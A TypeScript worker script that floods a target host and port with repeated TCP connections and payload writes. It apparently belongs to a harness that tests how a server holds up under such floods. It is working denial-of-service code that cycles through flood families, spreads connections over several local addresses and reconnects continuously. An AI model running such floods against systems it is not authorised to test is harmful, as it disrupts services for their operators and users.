/**
 * Floods of one family, or of each in turn, in a process of its own: is told on the command line whom to attack, and goes
 * on until it is killed.
 */
import { connect } from 'node:net'
import { setPriority } from 'node:os'
import { setTimeout as pause } from 'node:timers/promises'
import { FLOOD_FAMILIES, type FloodFamily, IN_TURN } from './flood-families.ts'

const [url = '', name = '', token = '', ...addresses] = process.argv.slice(2)
const { hostname: host, port } = new URL(url)
const EACH_FOR_MS = 5_000
/** Below what a lane holds of one address, had it such a bound. */
const CONNECTIONS_OF_EACH_OF_MANY = 4
/** A lane that cuts connections at once is not asked faster. */
const AGAIN_MS = 20

/** Until what it returns is disposed. */
function flood({ connections, first, bytes, timesEach }: FloodFamily): Disposable {
  const [opening, more] = [first?.(token), bytes(token)]
  let isOver = false
  const open = new Set<Disposable>()

  function connectOnce(localAddress: string | undefined): void {
    if (isOver) return
    let left = timesEach ?? Number.POSITIVE_INFINITY
    const socket = connect({ host, port: Number(port), ...(localAddress && { localAddress }) })
    const end = { [Symbol.dispose]: () => void socket.destroy() }
    open.add(end)
    const send = () => {
      do left -= 1
      while (socket.writable && socket.write(more) && left > 0)
    }
    socket.on('error', () => {}).on('drain', () => left > 0 && send())
    socket.resume().on('close', () => {
      open.delete(end)
      setTimeout(connectOnce, timesEach ? 0 : AGAIN_MS, localAddress)
    })
    socket.on('connect', () => {
      if (opening) socket.write(opening)
      send()
    })
  }

  const most = addresses.length > 1 ? addresses.length * CONNECTIONS_OF_EACH_OF_MANY : connections
  for (let count = 0; count < most; count += 1) connectOnce(addresses[count % addresses.length])
  return {
    [Symbol.dispose]() {
      isOver = true
      for (const one of open) one[Symbol.dispose]()
    },
  }
}

const chosen = FLOOD_FAMILIES.filter((one) => name === IN_TURN || one.name === name)
if (chosen.length === 0) throw new Error(`no family of floods is called ${name}`)
// What it takes of this machine the till and whoever measures would wait for, too.
setPriority(19)
console.log('begun')
for (let at = 0; ; at += 1) {
  const family = chosen[at % chosen.length]
  if (!family) break
  using _ = flood(family)
  await pause(EACH_FOR_MS)
  // One family goes on as it began.
  while (chosen.length === 1) await pause(EACH_FOR_MS)
}
